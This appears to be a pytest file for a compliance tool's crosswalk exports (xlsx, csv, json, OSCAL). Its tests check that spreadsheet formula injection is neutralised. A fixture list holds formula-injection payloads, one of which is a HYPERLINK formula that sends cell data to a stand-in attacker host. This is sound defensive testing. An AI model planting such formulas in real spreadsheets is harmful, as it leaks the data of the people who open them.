"""Crosswalk exports: xlsx workbook, csv, json and OSCAL mapping-collection, read back."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import shutil
import subprocess
import time
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from crossgate.graph import vocab
from crossgate.sheets.export_csvjson import (
    iter_crosswalk_csv,
    iter_crosswalk_json,
    write_crosswalk_csv,
    write_crosswalk_json,
)
from crossgate.sheets.export_matrix import (
    MATRIX_HEADER_COLS,
    MATRIX_HEADER_ROWS,
    cell_text,
    write_crosswalk_xlsx,
)
from crossgate.sheets.export_model import (
    DETAIL_COLUMNS,
    FORMULA_TRIGGERS,
    RELATIONS,
    SAFE_PREFIX,
    CoverageRow,
    CrosswalkMapping,
    CrosswalkView,
    Framework,
    Requirement,
    detail_values,
    neutralise,
    unneutralise,
)
from crossgate.sheets.export_oscal import (
    EmptyMappingCollection,
    iter_oscal_mapping_collection,
    write_oscal_mapping_collection,
)

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1", "@SUM(A1:A9)", "-2",
         "\tx", "\rcr", "＝1+1", "'=already quoted"]

SRC = [Requirement("euaia:art-9", "Risk management system"),
       Requirement("euaia:art-10", NASTY[0]),
       Requirement("euaia:art-26-6", "+1"),
       Requirement("euaia:art-50", "Transparency")]
TGT = [Requirement("ctrl:CHM-001", "@SUM(A1:A9)"),
       Requirement("ctrl:CHM-002", "-2"),
       Requirement("ctrl:GOV-001", "\tx"),
       Requirement("ctrl:LOG-001", "Logging")]


def sample_mappings() -> list[CrosswalkMapping]:
    return [
        CrosswalkMapping("euaia:art-9", "ctrl:CHM-002", "superset", 8, rationale="=1+1",
                         rationale_type="semantic", author="legal@example.com",
                         created=date(2026, 10, 1), source_doc="eu-map.xlsx",
                         import_id="imp-1", sheet="mappings", row=4),
        CrosswalkMapping("euaia:art-10", "ctrl:CHM-001", "equal", 10, rationale="same scope",
                         created=datetime(2026, 10, 2, 9, 30, tzinfo=UTC)),
        CrosswalkMapping("euaia:art-26-6", "ctrl:LOG-001", "intersects", 5,
                         rationale="-partial overlap", rationale_type="functional"),
        CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "subset", 6, derived=True,
                         path=["euaia:art-9", "ctrl:CHM-002", "ctrl:LOG-001"]),
        CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "related", None, rationale="@see"),
        CrosswalkMapping("euaia:art-50", "ctrl:GOV-001", "not_related", 0),
        # outside the listed requirements: detail only
        CrosswalkMapping("euaia:art-5", "ctrl:GOV-001", "related", 2),
    ]


def make_view(mappings=None, **kw) -> CrosswalkView:
    return CrosswalkView(
        source=Framework("fw:euaia", "EU AI Act"),
        target=Framework("fw:ctrl", "crossgate controls"),
        source_requirements=SRC, target_requirements=TGT,
        mappings=iter(sample_mappings() if mappings is None else mappings),
        revision=kw.pop("revision", "rev-7"),
        generated_at=datetime(2026, 11, 20, 12, 0, tzinfo=UTC), **kw)


def rows_of(ws) -> list[tuple]:
    return [tuple(r) for r in ws.iter_rows(values_only=True)]


# --------------------------------------------------------------------------------------------
# model


def test_relations_follow_the_vocabulary():
    assert list(RELATIONS) == list(vocab.RELATIONS)
    assert not any(rel.glyph[0] in FORMULA_TRIGGERS for rel in RELATIONS.values())


def test_detail_headers_are_ones_the_importer_reads():
    aliases = pytest.importorskip("crossgate.sheets.aliases")
    fields = {h: aliases.match_header(h, aliases.MAPPING_HEADERS) for h in DETAIL_COLUMNS}
    assert fields["source"][0] == "source"
    assert fields["target"][0] == "targets"
    for header, field in (("relation", "relation"), ("strength", "strength"),
                          ("rationale", "rationale"), ("rationale type", "rationale_type")):
        assert fields[header][0] == field
    # every relation's OSCAL spelling and canonical name read back as the same relation
    for rel in RELATIONS.values():
        assert aliases.canonical_relation(rel.name) == rel.name
        if rel.oscal:
            assert aliases.canonical_relation(rel.oscal) == rel.name


@pytest.mark.parametrize("text", NASTY)
def test_neutralise_prefixes_formula_starts(text):
    out = neutralise(text)
    assert out.startswith(SAFE_PREFIX)
    assert out.lstrip(SAFE_PREFIX)[:1] in FORMULA_TRIGGERS
    assert unneutralise(out) == text


@pytest.mark.parametrize("text", ["", "plain", "euaia:art-9", "'quoted", "a=b", " =spaced"])
def test_neutralise_leaves_safe_text(text):
    assert neutralise(text) == text
    assert unneutralise(text) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab ＝"), max_size=6) | st.text(max_size=8))
def test_neutralise_is_reversible(text):
    out = neutralise(text)
    assert unneutralise(out) == text
    assert out[:1] not in FORMULA_TRIGGERS


def test_unknown_relation_and_bad_strength_are_refused(tmp_path):
    with pytest.raises(ValueError, match="unknown relation"):
        write_crosswalk_xlsx(make_view([CrosswalkMapping("a:1", "b:1", "equal", 10),
                                        CrosswalkMapping("a:1", "b:1", "equivalent")]),
                             tmp_path / "x.xlsx")
    assert not (tmp_path / "x.xlsx").exists()  # no half-written workbook
    with pytest.raises(ValueError, match="strength"):
        "".join(iter_crosswalk_csv(make_view([CrosswalkMapping("a:1", "b:1", "equal", 11)])))


# --------------------------------------------------------------------------------------------
# xlsx


@pytest.fixture
def workbook(tmp_path) -> tuple[Path, object]:
    path = tmp_path / "crosswalk.xlsx"
    summary = write_crosswalk_xlsx(make_view(), path)
    return path, summary


def test_workbook_sheets_and_summary(workbook):
    path, summary = workbook
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["matrix", "legend", "detail", "coverage"]
    assert (summary.mappings, summary.derived, summary.in_matrix, summary.outside_matrix) \
        == (7, 1, 6, 1)


def test_matrix_cells_at_their_coordinates(workbook):
    path, _ = workbook
    ws = openpyxl.load_workbook(path)["matrix"]
    top, left = MATRIX_HEADER_ROWS + 1, MATRIX_HEADER_COLS + 1  # 1-based
    assert [ws.cell(1, left + j).value for j in range(len(TGT))] == [t.id for t in TGT]
    assert [ws.cell(top + i, 1).value for i in range(len(SRC))] == [s.id for s in SRC]
    assert ws.cell(top + 0, 2).value == "Risk management system"
    expected = {
        (0, 1): cell_text("superset", 8),
        (1, 0): cell_text("equal", 10),
        (2, 3): cell_text("intersects", 5),
        (0, 3): cell_text("subset", 6, derived=True) + "; " + cell_text("related", None),
        (3, 2): cell_text("not_related", 0),
    }
    for i in range(len(SRC)):
        for j in range(len(TGT)):
            assert ws.cell(top + i, left + j).value == expected.get((i, j)), (i, j)
    assert expected[0, 1] == "⊇ 8" and expected[0, 3] == "⊆ 6*; ~"
    assert ws.freeze_panes == "C3"
    assert ws.column_dimensions["A"].width > 10
    assert ws.column_dimensions["B"].width > 30
    assert 5 < ws.column_dimensions["C"].width < 10
    # colours: full green, partial amber
    assert ws.cell(top + 0, left + 1).fill.fgColor.rgb.endswith("C6EFCE")
    assert ws.cell(top + 2, left + 3).fill.fgColor.rgb.endswith("FFEB9C")


def test_legend_explains_every_glyph_and_the_formula_rule(workbook):
    path, _ = workbook
    text = "\n".join(str(v) for row in rows_of(openpyxl.load_workbook(path)["legend"])
                     for v in row if v is not None)
    for rel in RELATIONS.values():
        assert rel.name in text and rel.glyph in text and rel.coverage in text
        assert (rel.oscal or "left out of OSCAL") in text
    assert "EU AI Act (fw:euaia)" in text and "rev-7" in text
    assert "apostrophe" in text and "strength" in text.lower()


def test_detail_rows_equal_the_mappings(workbook):
    path, _ = workbook
    rows = rows_of(openpyxl.load_workbook(path)["detail"])
    assert rows[0] == DETAIL_COLUMNS
    expected = [tuple(None if v == "" else neutralise(v) if isinstance(v, str) else v
                      for v in detail_values(m)) for m in sample_mappings()]
    assert rows[1:] == expected
    assert rows[1][7] == "2026-10-01" and rows[2][7] == "2026-10-02T09:30:00+00:00"
    assert rows[4][12] == "yes" and rows[4][13] == "euaia:art-9 → ctrl:CHM-002 → ctrl:LOG-001"
    assert openpyxl.load_workbook(path)["detail"].freeze_panes == "A2"

    # calamine reads the same (numbers as floats, empty cells as "")
    calamine = CalamineWorkbook.from_path(str(path)).get_sheet_by_name("detail").to_python()
    assert tuple(calamine[0]) == DETAIL_COLUMNS
    for got, want in zip(calamine[1:], expected, strict=True):
        assert [int(g) if isinstance(g, float) else g for g in got] \
            == ["" if w is None else w for w in want]


def test_coverage_sheet_counts_per_source_requirement(workbook):
    path, _ = workbook
    rows = rows_of(openpyxl.load_workbook(path)["coverage"])
    assert rows[0] == ("requirement", "title", "full", "partial", "none", "status")
    assert rows[1:] == [
        ("euaia:art-9", "Risk management system", 1, 1, 1, "full"),
        ("euaia:art-10", neutralise(NASTY[0]), 1, 0, 0, "full"),
        ("euaia:art-26-6", "'+1", 0, 1, 0, "partial"),
        ("euaia:art-50", "Transparency", 0, 0, 1, "none"),
    ]


def test_coverage_rows_given_by_the_view_are_written_as_given(tmp_path):
    given_rows = [CoverageRow("euaia:art-9", "Risk", 0, 0, 0, "unmapped")]
    path = tmp_path / "c.xlsx"
    write_crosswalk_xlsx(make_view(coverage=given_rows), path)
    rows = rows_of(openpyxl.load_workbook(path)["coverage"])
    assert rows[1:] == [("euaia:art-9", "Risk", 0, 0, 0, "unmapped")]


def test_no_cell_is_a_formula_and_nasty_text_comes_back_prefixed(workbook):
    path, _ = workbook
    wb = openpyxl.load_workbook(path)
    seen = set()
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (ws.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and unneutralise(cell.value) in NASTY:
                    assert cell.value.startswith(SAFE_PREFIX)
                    seen.add(unneutralise(cell.value))
    assert {"+1", "@SUM(A1:A9)", "-2", "\tx", NASTY[0]} <= seen
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<f[ >]", z.read(name)), name


def test_matrix_only_workbook(tmp_path):
    path = tmp_path / "m.xlsx"
    write_crosswalk_xlsx(make_view(), path, include_detail=False)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == ["matrix", "legend", "coverage"]


def test_xlsx_to_a_binary_stream():
    buf = io.BytesIO()
    write_crosswalk_xlsx(make_view(), buf)
    assert openpyxl.load_workbook(io.BytesIO(buf.getvalue()))["matrix"]["A3"].value \
        == "euaia:art-9"


def test_libreoffice_opens_the_workbook(workbook, tmp_path):
    office = shutil.which("libreoffice") or shutil.which("soffice")
    if office is None:
        pytest.skip("LibreOffice is not installed (apt-get install libreoffice-calc-nogui)")
    path, _ = workbook
    out = tmp_path / "pdf"
    subprocess.run([office, "--headless", f"-env:UserInstallation=file://{tmp_path}/lo",
                    "--convert-to", "pdf", "--outdir", str(out), str(path)],
                   check=True, capture_output=True, timeout=180)
    pdf = out / "crosswalk.pdf"
    assert pdf.exists() and pdf.read_bytes().startswith(b"%PDF")


# --------------------------------------------------------------------------------------------
# csv and json


def test_csv_rows_equal_the_mappings_and_are_neutralised(tmp_path):
    path = tmp_path / "c.csv"
    write_crosswalk_csv(make_view(), path)
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))
    assert tuple(rows[0]) == DETAIL_COLUMNS
    expected = [["" if v is None else str(v) if isinstance(v, int) else neutralise(v)
                 for v in detail_values(m)] for m in sample_mappings()]
    assert rows[1:] == expected
    assert rows[1][4] == "'=1+1" and rows[3][4] == "'-partial overlap"
    assert not any(cell[:1] in FORMULA_TRIGGERS for row in rows for cell in row)


def test_csv_bom_and_streaming_chunks():
    many = [CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "equal", 10)] * 2500
    chunks = list(iter_crosswalk_csv(make_view(many), bom=True))
    assert len(chunks) == 3  # 1000 + 1000 + 500 rows, the header rides in the first
    text = "".join(chunks)
    assert text.startswith("\ufeffsource,target")
    assert text.count("\r\n") == 2501


def test_json_document(tmp_path):
    path = tmp_path / "c.json"
    write_crosswalk_json(make_view(), path)
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert doc["source"] == {"id": "fw:euaia", "title": "EU AI Act"}
    assert doc["revision"] == "rev-7" and doc["generated_at"] == "2026-11-20T12:00:00+00:00"
    assert [r["id"] for r in doc["target_requirements"]] == [t.id for t in TGT]
    assert len(doc["mappings"]) == 7 and doc["counts"] == {"mappings": 7, "derived": 1}
    first = doc["mappings"][0]
    assert first["rationale"] == "=1+1"  # raw in json
    assert first["created"] == "2026-10-01" and first["strength"] == 8
    assert doc["mappings"][3]["path"] == ["euaia:art-9", "ctrl:CHM-002", "ctrl:LOG-001"]
    assert [c["status"] for c in doc["coverage"]] == ["full", "full", "partial", "none"]


@pytest.mark.parametrize("n", [0, 1, 1000, 2001])
def test_json_chunks_join_to_valid_json(n):
    mappings = [CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "subset", i % 11)
                for i in range(n)]
    doc = json.loads("".join(iter_crosswalk_json(make_view(mappings))))
    assert len(doc["mappings"]) == n


def test_writers_accept_text_and_binary_streams():
    text, raw = io.StringIO(), io.BytesIO()
    write_crosswalk_csv(make_view(), text)
    write_crosswalk_json(make_view(), raw)
    assert text.getvalue().startswith("source,")
    assert json.loads(raw.getvalue().decode("utf-8"))["counts"]["mappings"] == 7


# --------------------------------------------------------------------------------------------
# OSCAL

UUID = re.compile(r"^[0-9a-f]{8}-[0-9a-f]{4}-[45][0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$")
OSCAL_RELATIONSHIPS = {"equivalent-to", "equal-to", "subset-of", "superset-of",
                       "intersects-with", "no-relationship"}


def oscal_doc(view=None, **kw) -> dict:
    return json.loads("".join(iter_oscal_mapping_collection(view or make_view(), **kw)))


def check_oscal_structure(doc: dict) -> None:
    """The OSCAL 1.2 mapping model's required parts and allowed values."""
    mc = doc["mapping-collection"]
    assert UUID.match(mc["uuid"])
    md = mc["metadata"]
    assert md["oscal-version"] == "1.2.0" and "\n" not in md["title"] and md["version"]
    assert datetime.fromisoformat(md["last-modified"]).tzinfo is not None
    prov = mc["provenance"]
    assert prov["method"] in {"human", "automation"}
    assert prov["matching-rationale"] in {"syntactic", "semantic", "functional"}
    assert prov["status"] in {"complete", "not-complete", "draft", "deprecated", "superseded"}
    assert prov["mapping-description"]
    uuids = [mc["uuid"]]
    assert mc["mappings"]
    for mapping in mc["mappings"]:
        uuids.append(mapping["uuid"])
        assert mapping["method"] in {"human", "automation"}
        for key in ("source-resource", "target-resource"):
            assert mapping[key]["type"] in {"catalog", "profile"} and mapping[key]["href"]
        assert mapping["maps"]
        for m in mapping["maps"]:
            uuids.append(m["uuid"])
            assert m["relationship"] in OSCAL_RELATIONSHIPS
            for side in ("sources", "targets"):
                assert m[side] and all(i["type"] in {"control", "statement"} and i["id-ref"]
                                       for i in m[side])
            for prop in m.get("props", []):
                assert re.match(r"^\S(.*\S)?$", prop["value"]) and prop["ns"]
    assert all(UUID.match(u) for u in uuids) and len(set(uuids)) == len(uuids)


def test_oscal_mapping_collection_structure_and_relations():
    doc = oscal_doc()
    check_oscal_structure(doc)
    mc = doc["mapping-collection"]
    authored, derived = mc["mappings"]
    assert (authored["method"], derived["method"]) == ("human", "automation")
    rel = {(m["sources"][0]["id-ref"], m["targets"][0]["id-ref"]): m["relationship"]
           for m in authored["maps"]}
    assert rel == {("euaia:art-9", "ctrl:CHM-002"): "superset-of",
                   ("euaia:art-10", "ctrl:CHM-001"): "equal-to",
                   ("euaia:art-26-6", "ctrl:LOG-001"): "intersects-with",
                   ("euaia:art-50", "ctrl:GOV-001"): "no-relationship"}
    first = authored["maps"][0]
    assert first["matching-rationale"] == "semantic" and first["remarks"] == "=1+1"
    props = {p["name"]: p["value"] for p in first["props"]}
    assert props == {"strength": "8", "author": "legal@example.com", "created": "2026-10-01",
                     "source-document": "eu-map.xlsx", "import-id": "imp-1",
                     "source-sheet": "mappings", "source-row": "4"}
    # `related` has no OSCAL relationship: left out, listed in remarks
    assert "2 mapping(s)" in authored["remarks"] and "euaia:art-9 → ctrl:LOG-001" \
        in authored["remarks"]
    (dmap,) = derived["maps"]
    assert dmap["relationship"] == "subset-of"
    assert {p["name"]: p["value"] for p in dmap["props"]}["path"] \
        == "euaia:art-9 → ctrl:CHM-002 → ctrl:LOG-001"
    assert authored["source-resource"]["href"] == "https://w3id.org/crossgate/id/fw/euaia"
    assert mc["provenance"]["status"] == "complete"


def test_oscal_validates_against_trestle_models():
    mapping = pytest.importorskip("trestle.oscal.mapping",
                                  reason="compliance-trestle (OSCAL 1.2 models) not installed")
    mapping.Model.model_validate(oscal_doc())


def test_oscal_uuids_are_stable_for_a_revision():
    a, b = oscal_doc(), oscal_doc()
    assert a == b
    c = oscal_doc(make_view(revision="rev-8"))["mapping-collection"]
    assert c["uuid"] != a["mapping-collection"]["uuid"]
    assert c["mappings"][0]["uuid"] == a["mapping-collection"]["mappings"][0]["uuid"]


def test_oscal_status_and_empty_collection(tmp_path):
    partial = [CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "equal", 10)]
    assert oscal_doc(make_view(partial))["mapping-collection"]["provenance"]["status"] \
        == "not-complete"
    only_related = [CrosswalkMapping("euaia:art-9", "ctrl:LOG-001", "related", 3)]
    with pytest.raises(EmptyMappingCollection):
        write_oscal_mapping_collection(make_view(only_related), tmp_path / "o.json")
    assert not (tmp_path / "o.json").exists()


def test_oscal_many_maps_spool_and_stream(tmp_path):
    mappings = [CrosswalkMapping(f"euaia:art-{i}", "ctrl:LOG-001", "intersects", i % 11,
                                 rationale="x" * 200, derived=i % 3 == 0,
                                 path=["a:1", "b:2"] if i % 3 == 0 else ())
                for i in range(30_000)]  # > the in-memory spool size
    path = tmp_path / "big.json"
    write_oscal_mapping_collection(make_view(mappings), path)
    doc = json.loads(path.read_text(encoding="utf-8"))
    assert [len(m["maps"]) for m in doc["mapping-collection"]["mappings"]] == [20_000, 10_000]


# --------------------------------------------------------------------------------------------
# scale


def big_view(n_rows: int, n_cols: int, n_maps: int, seed: int = 7) -> CrosswalkView:
    rng = random.Random(seed)
    rows = [Requirement(f"src:R-{i:05d}", f"Source requirement {i}") for i in range(n_rows)]
    cols = [Requirement(f"tgt:C-{j:05d}", f"Target requirement {j}") for j in range(n_cols)]
    names = list(RELATIONS)

    def mappings():
        for k in range(n_maps):
            yield CrosswalkMapping(rows[rng.randrange(n_rows)].id, cols[rng.randrange(n_cols)].id,
                                   names[k % 6], rng.randrange(11), rationale=f"reason {k}",
                                   author="bench", derived=k % 10 == 0)

    return CrosswalkView(Framework("fw:src", "Source"), Framework("fw:tgt", "Target"),
                         rows, cols, mappings())


@pytest.mark.slow
def test_generator_of_200k_mappings_over_2000x2000(tmp_path):
    path = tmp_path / "big.xlsx"
    start = time.perf_counter()
    summary = write_crosswalk_xlsx(big_view(2000, 2000, 200_000), path)
    elapsed = time.perf_counter() - start
    assert summary.mappings == summary.in_matrix == 200_000
    # About 15 s on an idle 2-core machine; the bound leaves room for a busy one.
    assert elapsed < 90, elapsed
    wb = CalamineWorkbook.from_path(str(path))
    assert len(wb.get_sheet_by_name("detail").to_python()) == 200_001
    matrix = wb.get_sheet_by_name("matrix").to_python()
    assert len(matrix) == 2002 and len(matrix[0]) == 2002
